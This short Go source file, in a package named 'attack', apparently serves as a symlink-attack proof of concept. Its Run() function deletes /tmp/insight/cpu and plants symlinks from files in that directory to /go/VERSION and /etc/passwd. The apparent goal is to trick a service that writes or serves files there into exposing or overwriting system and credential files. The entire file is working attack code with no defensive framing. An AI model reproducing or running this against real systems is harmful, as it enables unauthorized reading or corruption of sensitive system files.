package attack

import "os"

func Run() {
	os.Remove("/tmp/insight/cpu")
	os.Symlink("/go/VERSION", "/tmp/insight/cpu")
	os.Symlink("/etc/passwd", "/tmp/insight/goroutine")
}
